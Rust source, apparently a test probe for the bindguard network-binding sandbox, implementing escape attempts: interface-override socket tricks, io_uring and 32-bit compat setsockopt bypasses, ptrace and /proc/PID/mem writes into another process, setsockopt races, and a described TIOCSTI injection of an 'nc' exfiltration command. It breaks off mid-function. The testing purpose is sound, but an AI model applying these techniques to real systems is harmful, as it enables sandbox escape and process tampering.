//! `bg-probe attack KIND ADDR PORT TOKEN [ARG...]`: attacks on a binding beyond the known
//! escapes (tests/tests/attack.rs). Each prints one line per step (`name: ok` or
//! `name: error errno=N ...`) and exits 0 when its last step (normally the send) succeeded.
//!
//! Egress (send TOKEN towards ADDR:PORT some other way than the binding allows):
//!   sendmmsg-pktinfo IFINDEX   IPv4 UDP sendmmsg, each message with IP_PKTINFO naming IFINDEX
//!   mapped-pktinfo IFINDEX     IPv6 UDP socket, ADDR (IPv4) as ::ffff:ADDR, IPV6_PKTINFO cmsg
//!   pktinfo6 IFINDEX           IPv6 UDP, IPV6_PKTINFO cmsg naming IFINDEX
//!   mapped-unspec              IPv6 UDP: connect ::ffff:ADDR, connect(AF_UNSPEC), sendto it
//!                              as ::ffff:ADDR and as a plain AF_INET address
//!   unicast-if IFINDEX         IP_UNICAST_IF / IPV6_UNICAST_IF naming IFINDEX, before and after
//!                              connect(AF_UNSPEC), then sendto
//!   mcast-if IFINDEX           IP_MULTICAST_IF / IPV6_MULTICAST_IF naming IFINDEX, then
//!                              sendto ADDR (a multicast group), then again after a reset
//!   tfo-llbind IFINDEX         IPv6 TCP: bind fe80::1%IFINDEX, then sendto(MSG_FASTOPEN)
//!   raw-unspec                 raw IPPROTO_UDP socket (CAP_NET_RAW): connect, AF_UNSPEC, sendto
//!   raw-pktinfo IFINDEX        raw IPv4 IPPROTO_UDP with an IP_PKTINFO cmsg
//!   raw-hdrincl IFINDEX        raw IPv4 IP_HDRINCL (own IP header) with an IP_PKTINFO cmsg
//!   raw-scope IFINDEX          raw IPv6 IPPROTO_UDP to ADDR%IFINDEX (a link-local address)
//!   ping-unspec                ICMP echo socket: connect, AF_UNSPEC, sendto (echo carries TOKEN)
//!   ping-pktinfo IFINDEX       ICMP echo socket (IPv4) with an IP_PKTINFO cmsg
//!   uring-pktinfo IFINDEX      io_uring: IORING_OP_SOCKET, IORING_OP_SENDMSG with IP_PKTINFO
//!   uring-unspec               io_uring: OP_SOCKET, OP_CONNECT, OP_CONNECT(AF_UNSPEC), OP_SENDMSG
//!   compat-bindtodev IFNAME    SO_BINDTODEVICE by a 32-bit setsockopt (int 0x80), sendto
//!   uring-compat-bindtodev IFNAME  SO_BINDTODEVICE by io_uring's SOCKET_URING_OP_SETSOCKOPT on
//!                              a ring made by a 32-bit io_uring_setup, sendto
//!   uring-bindtodev IFNAME     the same on a ring made by the 64-bit io_uring_setup
//!   tcp-scope IFINDEX          TCP connect to ADDR%IFINDEX (unbound helper for ingress tests)
//!
//! The BPF LSM rows (tests/tests/kernel.rs):
//!   packet-send IFINDEX        AF_PACKET (CAP_NET_RAW): a broadcast frame carrying TOKEN on IFINDEX
//!   compat-join IFINDEX        ADDR is a group: IP_ADD_MEMBERSHIP naming IFINDEX by a 32-bit
//!                              setsockopt (int 0x80), held 600 ms
//!   fd-receive PATH            print `ready`, receive a socket by SCM_RIGHTS on the unix
//!                              datagram socket PATH, send TOKEN through it
//!   fd-give PATH               make a UDP socket and pass it by SCM_RIGHTS to PATH
//!   fd-hold SECONDS            make a UDP socket, let any process ptrace us (Yama), print
//!                              `pid=N fd=M`, sleep
//!   pidfd-take PID FD          pidfd_getfd(PID, FD), send TOKEN through it
//!
//! The cgroup's edge (tests/tests/kernel.rs, tests/tests/guarantee.rs):
//!   tun-inject NODE TUNNAME    open NODE (a /dev/net/tun node), TUNSETIFF to the existing
//!                              device TUNNAME, write an IPv4/UDP packet carrying TOKEN to
//!                              ADDR:PORT into it (the host forwards it by its routing table)
//!   puppet SECONDS             (run outside the binding) let any process ptrace us (Yama),
//!                              print `pid=N flag=0xADDR wfd=W`; when the u32 at ADDR turns
//!                              non-zero, or a byte arrives on the pipe whose write end is fd W,
//!                              send TOKEN by UDP and exit; give up after SECONDS
//!   drive PID FLAGADDR HOW [W] set the puppet's flag to 1 by HOW: `ptrace` (PTRACE_ATTACH,
//!                              PTRACE_POKEDATA, PTRACE_DETACH), `vm-write` (process_vm_writev)
//!                              or `proc-mem` (pwrite to /proc/PID/mem); or `proc-fd`: reopen
//!                              /proc/PID/fd/W (the puppet's pipe) and write a byte
//!   tiocsti                    push "echo TOKEN | busybox nc -w1 ADDR PORT" and a newline into
//!                              the terminal on fd 0 with TIOCSTI, byte by byte
//!   clone-into DIR             clone3(CLONE_INTO_CGROUP) into the cgroup directory DIR; the
//!                              child sends TOKEN by UDP
//!
//!   send-loop SECONDS          a new UDP socket per datagram, as fast as it can, for SECONDS
//!
//! Ingress (print `ready`, then `got PAYLOAD` for what arrives within SECONDS; ADDR is where
//! the bound socket would send to, or the address it binds):
//!   recv-unspec SECONDS        IPv4 UDP bound to 0.0.0.0:PORT, connect(ADDR), connect(AF_UNSPEC)
//!   recv-llbind IFINDEX SECONDS   IPv6 UDP bound to [ADDR%IFINDEX]:PORT (a link-local address
//!                              of another interface: the scope id overwrites the binding)
//!   listen-llbind IFINDEX SECONDS IPv6 TCP listener on [ADDR%IFINDEX]:PORT
//!
//! Multicast joins the cgroup sockopt hook does not see (reproductions, not regression tests):
//!   uring-compat-join IFINDEX  ADDR is a group: IP_ADD_MEMBERSHIP / IPV6_ADD_MEMBERSHIP naming
//!                              IFINDEX through a compat io_uring ring; holds it 1 s
//!   race-join IFINDEX ALLOWED TRIES [MAX_DELAY]  joins ADDR+n with optlen 8192 (> PAGE_SIZE)
//!                              naming ALLOWED while a thread rewrites the index to IFINDEX a
//!                              swept delay (0..MAX_DELAY spins, default 200) into each call
//!   race-bind IFNAME ALLOWED IFINDEX TRIES [MAX_DELAY]  SO_BINDTODEVICE with optlen 5000
//!                              (> PAGE_SIZE) naming ALLOWED while a thread rewrites the name
//!                              to IFNAME the same way; prints how many sockets ended up bound
//!                              to IFINDEX (needs CAP_NET_RAW)

use std::{
    net::{IpAddr, Ipv4Addr},
    os::fd::{AsRawFd, FromRawFd, OwnedFd},
    time::{Duration, Instant},
};

use super::{new_socket, report, sockaddr, step};

/// One control message: (level, type, data).
type Cmsg = (i32, i32, Vec<u8>);

fn as_bytes<T>(v: &T) -> Vec<u8> {
    // SAFETY: reading the bytes of a plain-data value.
    unsafe { std::slice::from_raw_parts((v as *const T).cast::<u8>(), std::mem::size_of::<T>()) }
        .to_vec()
}

fn pktinfo4(ifindex: u32) -> Cmsg {
    let info = libc::in_pktinfo {
        ipi_ifindex: ifindex as i32,
        ipi_spec_dst: libc::in_addr { s_addr: 0 },
        ipi_addr: libc::in_addr { s_addr: 0 },
    };
    (libc::IPPROTO_IP, libc::IP_PKTINFO, as_bytes(&info))
}

fn pktinfo6(ifindex: u32) -> Cmsg {
    let info = libc::in6_pktinfo {
        ipi6_addr: libc::in6_addr { s6_addr: [0; 16] },
        ipi6_ifindex: ifindex,
    };
    (libc::IPPROTO_IPV6, libc::IPV6_PKTINFO, as_bytes(&info))
}

/// Control-message buffer for `cmsgs` (kept alive by the caller while the msghdr is used).
fn control(cmsgs: &[Cmsg]) -> Vec<u8> {
    // SAFETY: CMSG_SPACE is a pure computation.
    let space: usize = cmsgs
        .iter()
        .map(|(_, _, d)| unsafe { libc::CMSG_SPACE(d.len() as u32) } as usize)
        .sum();
    let mut buf = vec![0u8; space];
    let mut off = 0;
    for (level, kind, data) in cmsgs {
        // SAFETY: the buffer has CMSG_SPACE(len) bytes from `off` for this message.
        unsafe {
            let c = buf.as_mut_ptr().add(off).cast::<libc::cmsghdr>();
            (*c).cmsg_level = *level;
            (*c).cmsg_type = *kind;
            (*c).cmsg_len = libc::CMSG_LEN(data.len() as u32) as _;
            std::ptr::copy_nonoverlapping(data.as_ptr(), libc::CMSG_DATA(c), data.len());
            off += libc::CMSG_SPACE(data.len() as u32) as usize;
        }
    }
    buf
}

/// sendmsg of `payload` to `dest` (None: the connected peer) with `cmsgs`.
fn send_msg(
    fd: i32,
    dest: Option<(libc::sockaddr_storage, libc::socklen_t)>,
    payload: &[u8],
    cmsgs: &[Cmsg],
    flags: i32,
) -> libc::c_long {
    let mut cbuf = control(cmsgs);
    let mut iov = libc::iovec {
        iov_base: payload.as_ptr() as *mut _,
        iov_len: payload.len(),
    };
    // SAFETY: plain data; every pointer below outlives the call.
    let mut hdr: libc::msghdr = unsafe { std::mem::zeroed() };
    if let Some((sa, len)) = &dest {
        hdr.msg_name = (sa as *const libc::sockaddr_storage) as *mut _;
        hdr.msg_namelen = *len;
    }
    hdr.msg_iov = &mut iov;
    hdr.msg_iovlen = 1;
    if !cbuf.is_empty() {
        hdr.msg_control = cbuf.as_mut_ptr().cast();
        hdr.msg_controllen = cbuf.len() as _;
    }
    // SAFETY: sendmsg on our fd with the header built above.
    unsafe { libc::sendmsg(fd, &hdr, flags) as libc::c_long }
}

fn connect(fd: i32, sa: &(libc::sockaddr_storage, libc::socklen_t)) -> libc::c_long {
    // SAFETY: connect on our fd with a sockaddr of the size given.
    unsafe { libc::connect(fd, (&sa.0 as *const libc::sockaddr_storage).cast(), sa.1) as _ }
}

fn bind(fd: i32, sa: &(libc::sockaddr_storage, libc::socklen_t)) -> libc::c_long {
    // SAFETY: bind on our fd with a sockaddr of the size given.
    unsafe { libc::bind(fd, (&sa.0 as *const libc::sockaddr_storage).cast(), sa.1) as _ }
}

/// connect(AF_UNSPEC): resets a datagram socket's binding (and its connection).
fn unspec(fd: i32) -> libc::c_long {
    // SAFETY: plain data.
    let mut sa: libc::sockaddr = unsafe { std::mem::zeroed() };
    sa.sa_family = libc::AF_UNSPEC as u16;
    // SAFETY: connect on our fd with an AF_UNSPEC sockaddr.
    unsafe { libc::connect(fd, &sa, std::mem::size_of::<libc::sockaddr>() as u32) as _ }
}

fn setsockopt<T>(fd: i32, level: i32, name: i32, v: &T) -> libc::c_long {
    // SAFETY: setsockopt on our fd with a value of the size given.
    unsafe {
        libc::setsockopt(
            fd,
            level,
            name,
            (v as *const T).cast(),
            std::mem::size_of::<T>() as u32,
        ) as _
    }
}

fn sendto(fd: i32, payload: &[u8], sa: &(libc::sockaddr_storage, libc::socklen_t)) -> i64 {
    // SAFETY: sendto on our fd with a sockaddr of the size given.
    unsafe {
        libc::sendto(
            fd,
            payload.as_ptr().cast(),
            payload.len(),
            0,
            (&sa.0 as *const libc::sockaddr_storage).cast(),
            sa.1,
        ) as i64
    }
}

/// A filesystem unix socket address.
fn unix_addr(path: &str) -> (libc::sockaddr_un, libc::socklen_t) {
    // SAFETY: plain data, filled below.
    let mut sun: libc::sockaddr_un = unsafe { std::mem::zeroed() };
    sun.sun_family = libc::AF_UNIX as u16;
    for (d, s) in sun.sun_path.iter_mut().zip(path.bytes()) {
        *d = s as libc::c_char;
    }
    (
        sun,
        std::mem::size_of::<libc::sockaddr_un>() as libc::socklen_t,
    )
}

fn mapped(v4: Ipv4Addr) -> IpAddr {
    IpAddr::V6(v4.to_ipv6_mapped())
}

/// A UDP header for `port` followed by `payload` (checksum 0: none for IPv4; for IPv6 the
/// kernel fills it in with IPV6_CHECKSUM).
/// An IPv4 header (checksummed) + UDP (checksum 0: none) around `payload`.
fn ipv4_udp(src: [u8; 4], dst: [u8; 4], port: u16, payload: &[u8]) -> Vec<u8> {
    let total = 20 + 8 + payload.len();
    let mut p = vec![
        0x45,
        0,
        0,
        0,
        0,
        0,
        0x40,
        0,
        64,
        libc::IPPROTO_UDP as u8,
        0,
        0,
    ];
    p[2..4].copy_from_slice(&(total as u16).to_be_bytes());
    p.extend_from_slice(&src);
    p.extend_from_slice(&dst);
    let sum = p
        .chunks(2)
        .map(|w| u32::from(u16::from_be_bytes([w[0], w[1]])))
        .sum::<u32>();
    let sum = (sum & 0xffff) + (sum >> 16);
    p[10..12].copy_from_slice(&(!((sum & 0xffff) + (sum >> 16)) as u16).to_be_bytes());
    p.extend_from_slice(&40000u16.to_be_bytes());
    p.extend_from_slice(&port.to_be_bytes());
    p.extend_from_slice(&((8 + payload.len()) as u16).to_be_bytes());
    p.extend_from_slice(&[0, 0]);
    p.extend_from_slice(payload);
    p
}

/// Sets the u32 at `addr` in process `pid` to 1 by `how`, or writes to its pipe (see `drive`
/// above).
fn drive(pid: i32, addr: usize, how: &str, wfd: Option<&str>) -> bool {
    let one = 1u32;
    match how {
        "ptrace" => {
            // SAFETY: ptrace requests with integer arguments on the named process.
            if !step("PTRACE_ATTACH", unsafe {
                libc::ptrace(libc::PTRACE_ATTACH, pid, 0, 0)
            }) {
                return false;
            }
            let mut status = 0;
            // SAFETY: waiting for the tracee to stop.
            unsafe { libc::waitpid(pid, &mut status, libc::__WALL) };
            // SAFETY: as above; the word at `addr` is the flag (little-endian: the low half).
            let word = unsafe { libc::ptrace(libc::PTRACE_PEEKDATA, pid, addr, 0) };
            let new = (word as u64 & !0xffff_ffff) | 1;
            // SAFETY: as above.
            let ok = step("PTRACE_POKEDATA", unsafe {
                libc::ptrace(libc::PTRACE_POKEDATA, pid, addr, new)
            });
            // SAFETY: as above.
            unsafe { libc::ptrace(libc::PTRACE_DETACH, pid, 0, 0) };
            ok
        }
        "vm-write" => {
            let local = libc::iovec {
                iov_base: (&one as *const u32) as *mut _,
                iov_len: 4,
            };
            let remote = libc::iovec {
                iov_base: addr as *mut _,
                iov_len: 4,
            };
            // SAFETY: one iovec each way, 4 bytes.
            step("process_vm_writev", unsafe {
                libc::process_vm_writev(pid, &local, 1, &remote, 1, 0)
            } as _)
        }
        "proc-mem" => {
            let path = std::ffi::CString::new(format!("/proc/{pid}/mem")).expect("path");
            // SAFETY: open with a valid C string.
            let fd = unsafe { libc::open(path.as_ptr(), libc::O_RDWR) };
            if !step("open /proc/PID/mem", fd as _) {
                return false;
            }
            // SAFETY: pwrite of 4 bytes from our value.
            step("pwrite", unsafe {
                libc::pwrite(fd, (&one as *const u32).cast(), 4, addr as libc::off_t)
            } as _)
        }
        "proc-fd" => {
            let path = format!(
                "/proc/{pid}/fd/{}",
                wfd.expect("proc-fd needs the puppet's W")
            );
            let path = std::ffi::CString::new(path).expect("path");
            // SAFETY: open with a valid C string.
            let fd = unsafe { libc::open(path.as_ptr(), libc::O_WRONLY) };
            if !step("open /proc/PID/fd/W", fd as _) {
                return false;
            }
            // SAFETY: a one-byte write from our value.
            step("write", unsafe { libc::write(fd, b"1".as_ptr().cast(), 1) }
                as _)
        }
        other => panic!("drive: HOW is ptrace, vm-write, proc-mem or proc-fd, not {other}"),
    }
}

fn udp_datagram(port: u16, payload: &[u8]) -> Vec<u8> {
    let mut d = Vec::with_capacity(8 + payload.len());
    d.extend_from_slice(&40000u16.to_be_bytes());
    d.extend_from_slice(&port.to_be_bytes());
    d.extend_from_slice(&((8 + payload.len()) as u16).to_be_bytes());
    d.extend_from_slice(&[0, 0]);
    d.extend_from_slice(payload);
    d
}

fn raw_udp_socket(v6: bool) -> OwnedFd {
    let family = if v6 { libc::AF_INET6 } else { libc::AF_INET };
    let s = bindguard::kernel::sockopt::new_socket(family, libc::SOCK_RAW, libc::IPPROTO_UDP)
        .unwrap_or_else(|e| report(&e));
    if v6 {
        let off: i32 = 6;
        step(
            "setsockopt(IPV6_CHECKSUM)",
            setsockopt(s.as_raw_fd(), libc::IPPROTO_RAW, libc::IPV6_CHECKSUM, &off),
        );
    }
    s
}

/// An ICMP echo request carrying `payload` (the kernel sets id and checksum on ping sockets).
fn echo_request(v6: bool, payload: &[u8]) -> Vec<u8> {
    let mut d = vec![if v6 { 128 } else { 8 }, 0, 0, 0, 0, 0, 0, 1];
    d.extend_from_slice(payload);
    d
}

/// A minimal io_uring (no liburing here): one submission at a time.
struct Ring {
    fd: OwnedFd,
    sq_tail: *mut u32,
    sq_mask: u32,
    sq_array: *mut u32,
    cq_head: *mut u32,
    cq_tail: *const u32,
    cq_mask: u32,
    cqes: *const [u8; 16],
    sqes: *mut [u8; 64],
}

const IORING_OP_SENDMSG: u8 = 9;
const IORING_OP_CONNECT: u8 = 16;
const IORING_OP_SOCKET: u8 = 45;
const IORING_OP_URING_CMD: u8 = 46;
const SOCKET_URING_OP_SETSOCKOPT: u32 = 3;
const SYS_IO_URING_SETUP: i64 = 425;
const SYS_IO_URING_ENTER: i64 = 426;
/// i386's setsockopt(2), entered with int 0x80 from this 64-bit process.
#[cfg(target_arch = "x86_64")]
const SYS32_SETSOCKOPT: i64 = 366;
/// Memory below 4 GiB for the i386 entry's 32-bit pointers; elsewhere (arm64: no 32-bit
/// entry from a 64-bit process, the compat attacks report ENOSYS) any address does.
#[cfg(target_arch = "x86_64")]
const LOW_4G: libc::c_int = libc::MAP_32BIT;
#[cfg(not(target_arch = "x86_64"))]
const LOW_4G: libc::c_int = 0;

/// A syscall through the 32-bit entry (int 0x80): the kernel treats it as a compat syscall.
/// Pointers must lie below 4 GiB.
#[cfg(target_arch = "x86_64")]
fn syscall32(nr: i64, args: [u32; 5]) -> i64 {
    let ret: i64;
    // SAFETY: int 0x80 with the i386 calling convention; ebx is saved by hand (LLVM reserves
    // rbx) and the arguments point to memory that stays valid during the call.
    unsafe {
        std::arch::asm!(
            "xchg {b:r}, rbx",
            "int 0x80",
            "xchg {b:r}, rbx",
            b = inout(reg) u64::from(args[0]) => _,
            inlateout("rax") nr => ret,
            in("rcx") u64::from(args[1]),
            in("rdx") u64::from(args[2]),
            in("rsi") u64::from(args[3]),
            in("rdi") u64::from(args[4]),
            // The compat entry returns with r8-r11 cleared; be safe about r8-r15.
            out("r8") _, out("r9") _, out("r10") _, out("r11") _,
            out("r12") _, out("r13") _, out("r14") _, out("r15") _,
        );
    }
    ret
}

/// `len` bytes of anonymous memory below 4 GiB, for 32-bit syscalls.
fn low_memory(len: usize) -> *mut u8 {
    // SAFETY: anonymous private mapping.
    let p = unsafe {
        libc::mmap(
            std::ptr::null_mut(),
            len,
            libc::PROT_READ | libc::PROT_WRITE,
            libc::MAP_PRIVATE | libc::MAP_ANONYMOUS | LOW_4G,
            -1,
            0,
        )
    };
    assert_ne!(p, libc::MAP_FAILED, "mmap MAP_32BIT");
    p.cast()
}

impl Ring {
    /// A ring made by io_uring_setup: the 64-bit syscall, or the 32-bit one (`compat`), which
    /// makes every later operation on the ring a "compat" one.
    fn new(compat: bool) -> Ring {
        // struct io_uring_params is 120 bytes.
        let p = low_memory(4096);
        let fd = if compat {
            #[cfg(target_arch = "x86_64")]
            {
                syscall32(SYS_IO_URING_SETUP, [8, p as usize as u32, 0, 0, 0])
            }
            #[cfg(not(target_arch = "x86_64"))]
            {
                -38
            }
        } else {
            // SAFETY: io_uring_setup with a zeroed params struct.
            let r = unsafe { libc::syscall(SYS_IO_URING_SETUP, 8, p) };
            if r < 0 {
                -i64::from(std::io::Error::last_os_error().raw_os_error().unwrap_or(0))
            } else {
                r
            }
        };
        if fd < 0 {
            println!("io_uring_setup(compat={compat}): error errno={}", -fd);
            std::process::exit(1);
        }
        println!("io_uring_setup(compat={compat}): ok");
        let u32_at = |off: usize| -> u32 {
            // SAFETY: inside the 120-byte params struct the kernel filled in.
            unsafe { p.add(off).cast::<u32>().read() }
        };
        let (sq_entries, cq_entries) = (u32_at(0), u32_at(4));
        // sq_off at 40: head, tail, ring_mask, ring_entries, flags, dropped, array;
        // cq_off at 80: head, tail, ring_mask, ring_entries, overflow, cqes.
        let (sq_tail, sq_mask, sq_array) = (u32_at(44), u32_at(48), u32_at(64));
        let (cq_head, cq_tail, cq_mask, cqes) = (u32_at(80), u32_at(84), u32_at(88), u32_at(100));
        let size = (sq_array as usize + 4 * sq_entries as usize)
            .max(cqes as usize + 16 * cq_entries as usize);
        let map = |len: usize, off: i64| -> *mut u8 {
            // SAFETY: mapping the ring the kernel made for fd.
            let m = unsafe {
                libc::mmap(
                    std::ptr::null_mut(),
                    len,
                    libc::PROT_READ | libc::PROT_WRITE,
                    libc::MAP_SHARED | libc::MAP_POPULATE,
                    fd as i32,
                    off,
                )
            };
            assert_ne!(m, libc::MAP_FAILED, "mmap io_uring");
            m.cast()
        };
        let ring = map(size, 0);
        let sqes = map(64 * sq_entries as usize, 0x1000_0000);
        // SAFETY: offsets inside the ring mapping, as the kernel reported them.
        unsafe {
            Ring {
                fd: OwnedFd::from_raw_fd(fd as i32),
                sq_tail: ring.add(sq_tail as usize).cast(),
                sq_mask: ring.add(sq_mask as usize).cast::<u32>().read(),
                sq_array: ring.add(sq_array as usize).cast(),
                cq_head: ring.add(cq_head as usize).cast(),
                cq_tail: ring.add(cq_tail as usize).cast(),
                cq_mask: ring.add(cq_mask as usize).cast::<u32>().read(),
                cqes: ring.add(cqes as usize).cast(),
                sqes: sqes.cast(),
            }
        }
    }

    /// Submits one SQE and waits for its completion; returns the CQE's result.
    fn run(&self, sqe: [u8; 64]) -> i32 {
        use std::sync::atomic::{AtomicU32, Ordering};
        // SAFETY: the ring's shared memory, used by this thread only, with the kernel's
        // required ordering on the head/tail words.
        unsafe {
            let tail = &*(self.sq_tail as *const AtomicU32);
            let t = tail.load(Ordering::Relaxed);
            let idx = t & self.sq_mask;
            self.sqes.add(idx as usize).write(sqe);
            self.sq_array.add(idx as usize).write(idx);
            tail.store(t + 1, Ordering::Release);
            let n = libc::syscall(SYS_IO_URING_ENTER, self.fd.as_raw_fd(), 1, 1, 1, 0, 0);
            if n < 0 {
                return -std::io::Error::last_os_error().raw_os_error().unwrap_or(0);
            }
            let head = &*(self.cq_head as *const AtomicU32);
            let h = head.load(Ordering::Relaxed);
            if h == (*(self.cq_tail as *const AtomicU32)).load(Ordering::Acquire) {
                return -9999;
            }
            let cqe = self.cqes.add((h & self.cq_mask) as usize).read();
            head.store(h + 1, Ordering::Release);
            i32::from_ne_bytes([cqe[8], cqe[9], cqe[10], cqe[11]])
        }
    }
}

fn sqe(op: u8, fd: i32) -> [u8; 64] {
    let mut s = [0u8; 64];
    s[0] = op;
    s[4..8].copy_from_slice(&fd.to_ne_bytes());
    s
}

fn put(s: &mut [u8; 64], at: usize, bytes: &[u8]) {
    s[at..at + bytes.len()].copy_from_slice(bytes);
}

/// Prints a ring operation's outcome like [`step`]; returns its result.
fn ring_step(name: &str, res: i32) -> i32 {
    if res < 0 {
        println!(
            "{name}: error errno={} {}",
            -res,
            std::io::Error::from_raw_os_error(-res)
        );
    } else {
        println!("{name}: ok");
    }
    res
}

/// IORING_OP_SENDMSG of `payload` to `dest` with `cmsgs`.
fn ring_sendmsg(
    ring: &Ring,
    fd: i32,
    dest: &(libc::sockaddr_storage, libc::socklen_t),
    payload: &[u8],
    cmsgs: &[Cmsg],
) -> i32 {
    let mut cbuf = control(cmsgs);
    let mut iov = libc::iovec {
        iov_base: payload.as_ptr() as *mut _,
        iov_len: payload.len(),
    };
    // SAFETY: plain data; the pointers outlive the (synchronous) submission.
    let mut hdr: libc::msghdr = unsafe { std::mem::zeroed() };
    hdr.msg_name = (&dest.0 as *const libc::sockaddr_storage) as *mut _;
    hdr.msg_namelen = dest.1;
    hdr.msg_iov = &mut iov;
    hdr.msg_iovlen = 1;
    if !cbuf.is_empty() {
        hdr.msg_control = cbuf.as_mut_ptr().cast();
        hdr.msg_controllen = cbuf.len() as _;
    }
    let mut s = sqe(IORING_OP_SENDMSG, fd);
    put(
        &mut s,
        16,
        &((&hdr as *const libc::msghdr) as u64).to_ne_bytes(),
    );
    put(&mut s, 24, &1u32.to_ne_bytes());
    ring.run(s)
}

fn ring_connect(ring: &Ring, fd: i32, sa: *const u8, len: u32) -> i32 {
    let mut s = sqe(IORING_OP_CONNECT, fd);
    put(&mut s, 16, &(sa as u64).to_ne_bytes());
    put(&mut s, 8, &u64::from(len).to_ne_bytes());
    ring.run(s)
}

/// SOCKET_URING_OP_SETSOCKOPT: setsockopt carried out by io_uring.
fn ring_setsockopt(ring: &Ring, fd: i32, level: i32, name: i32, val: *const u8, len: u32) -> i32 {
    let mut s = sqe(IORING_OP_URING_CMD, fd);
    put(&mut s, 8, &SOCKET_URING_OP_SETSOCKOPT.to_ne_bytes());
    put(&mut s, 16, &(level as u32).to_ne_bytes());
    put(&mut s, 20, &(name as u32).to_ne_bytes());
    put(&mut s, 44, &len.to_ne_bytes());
    put(&mut s, 48, &(val as u64).to_ne_bytes());
    ring.run(s)
}

/// Receives on `fd` until `seconds` pass, printing `got PAYLOAD` for each datagram.
fn receive_for(fd: i32, seconds: f64, stream: bool) {
    println!("ready");
    let deadline = Instant::now() + Duration::from_secs_f64(seconds);
    let mut buf = [0u8; 2048];
    while Instant::now() < deadline {
        let mut pfd = libc::pollfd {
            fd,
            events: libc::POLLIN,
            revents: 0,
        };
        // SAFETY: poll on one pollfd of ours.
        if unsafe { libc::poll(&mut pfd, 1, 100) } <= 0 {
            continue;
        }
        let conn = if stream {
            // SAFETY: accept on our listening fd; addresses not wanted.
            let c = unsafe { libc::accept(fd, std::ptr::null_mut(), std::ptr::null_mut()) };
            if c < 0 {
                continue;
            }
            println!("accepted");
            // SAFETY: c was just returned by accept.
            Some(unsafe { OwnedFd::from_raw_fd(c) })
        } else {
            None
        };
        let from = conn.as_ref().map_or(fd, |c| c.as_raw_fd());
        // SAFETY: reading into our buffer from our fd.
        let n = unsafe { libc::recv(from, buf.as_mut_ptr().cast(), buf.len(), 0) };
        if n > 0 {
            println!("got {}", String::from_utf8_lossy(&buf[..n as usize]));
        }
    }
}

/// Runs `attempt(i, go)` for i in 0..`tries` while another thread runs `flip()` a swept delay
/// (0..`max_delay` spins) after `go()` releases it; `attempt` calls `go()` just before its
/// system call. Each flip has happened before the next attempt starts. Returns the flips.
fn race(
    tries: u32,
    max_delay: u32,
    flip: impl Fn() + Send + 'static,
    mut attempt: impl FnMut(u32, &dyn Fn()),
) -> u32 {
    use std::sync::{
        Arc,
        atomic::{AtomicBool, AtomicU32, Ordering},
    };
    let go = Arc::new(AtomicU32::new(0));
    let done = Arc::new(AtomicU32::new(0));
    let delay = Arc::new(AtomicU32::new(0));
    let stop = Arc::new(AtomicBool::new(false));
    let flipper = {
        let (go, done, delay, stop) = (go.clone(), done.clone(), delay.clone(), stop.clone());
        std::thread::spawn(move || {
            let mut seen = 0;
            let mut flips = 0u32;
            while !stop.load(Ordering::Relaxed) {
                let now = go.load(Ordering::Acquire);
                if now == seen {
                    std::hint::spin_loop();
                    continue;
                }
                seen = now;
                for k in 0..delay.load(Ordering::Relaxed) {
                    std::hint::black_box(k);
                }
                flip();
                flips += 1;
                done.store(now, Ordering::Release);
            }
            flips
        })
    };
    for i in 0..tries {
        delay.store(i.wrapping_mul(37) % max_delay.max(1), Ordering::Relaxed);
        attempt(i, &|| {
            go.fetch_add(1, Ordering::Release);
        });
        while done.load(Ordering::Acquire) != i + 1 {
            std::hint::spin_loop();
        }
    }
    stop.store(true, Ordering::Relaxed);
    flipper.join().unwrap_or(0)
}

/// Joins groups ADDR, ADDR+1, ... with optlen 8192 (more than a page: the kernel ignores the
/// sockopt program's copy and reads the user buffer again) naming `allowed`, while a thread
/// rewrites the index to `ifindex` a swept delay after each call starts; prints how many joins
/// the kernel accepted.
fn race_join(group: IpAddr, ifindex: u32, allowed: u32, tries: u32, max_delay: u32) {
    use std::sync::atomic::{AtomicU32, Ordering};
    let v6 = group.is_ipv6();
    let (level, name, at) = if v6 {
        (libc::IPPROTO_IPV6, libc::IPV6_ADD_MEMBERSHIP, 16)
    } else {
        (libc::IPPROTO_IP, libc::IP_ADD_MEMBERSHIP, 8)
    };
    let buf: &'static mut [u8] = Box::leak(vec![0u8; 8192].into_boxed_slice());
    let base = buf.as_mut_ptr() as usize;
    // SAFETY: a 4-byte aligned word inside `buf`, shared with the flipping thread as an atomic.
    let slot: &'static AtomicU32 = unsafe { &*((base + at) as *const AtomicU32) };
    let (mut ok, mut refused) = (0, 0);
    let flip = move || slot.store(ifindex, Ordering::Relaxed);
    let flips = race(tries, max_delay, flip, |i, go| {
        let g: Vec<u8> = match group {
            IpAddr::V4(g) => (u32::from(g) + i).to_be_bytes().to_vec(),
            IpAddr::V6(g) => (u128::from(g) + u128::from(i)).to_be_bytes().to_vec(),
        };
        // SAFETY: the group bytes lie before the index word; the flipper writes only that.
        unsafe { std::ptr::copy_nonoverlapping(g.as_ptr(), base as *mut u8, g.len()) };
        let family = if v6 { libc::AF_INET6 } else { libc::AF_INET };
        let s = new_socket(family, libc::SOCK_DGRAM).unwrap_or_else(|e| report(&e));
        slot.store(allowed, Ordering::Relaxed);
        go();
        // SAFETY: setsockopt with our 8192-byte buffer.
        let rc = unsafe { libc::setsockopt(s.as_raw_fd(), level, name, base as *const _, 8192) };
        if rc == 0 {
            ok += 1;
        } else {
            refused += 1;
        }
    });
    println!("joins ok={ok} refused={refused} flips={flips}");
    // Hold the memberships' reports a moment (the sockets are closed: each join that landed
    // on an interface sent its report, and the close a leave).
    std::thread::sleep(Duration::from_millis(200));
}

/// SO_BINDTODEVICE with optlen 5000 (more than a page: the kernel ignores the sockopt
/// program's copy and reads the user buffer again) naming `allowed`, while a thread rewrites
/// the name to `other` a swept delay after each call starts; prints how many of the sockets
/// ended up bound to `other_index`.
fn race_bind(other: &str, allowed: &str, other_index: u32, tries: u32, max_delay: u32) {
    use std::sync::atomic::{AtomicU64, Ordering};
    fn name_words(name: &str) -> [u64; 2] {
        let mut b = [0u8; 16];
        b[..name.len().min(15)].copy_from_slice(&name.as_bytes()[..name.len().min(15)]);
        [
            u64::from_ne_bytes(b[..8].try_into().unwrap()),
            u64::from_ne_bytes(b[8..].try_into().unwrap()),
        ]
    }
    const LEN: usize = 5000;
    // u64 words: the name's two words are aligned for the flipping thread's atomic stores.
    let buf: &'static mut [u64] = Box::leak(vec![0u64; LEN.div_ceil(8)].into_boxed_slice());
    let base = buf.as_mut_ptr() as usize;
    // SAFETY: two aligned words inside `buf`, shared with the flipping thread as atomics.
    let words: [&'static AtomicU64; 2] =
        [0, 8].map(|at| unsafe { &*((base + at) as *const AtomicU64) });
    let (want, bad) = (name_words(allowed), name_words(other));
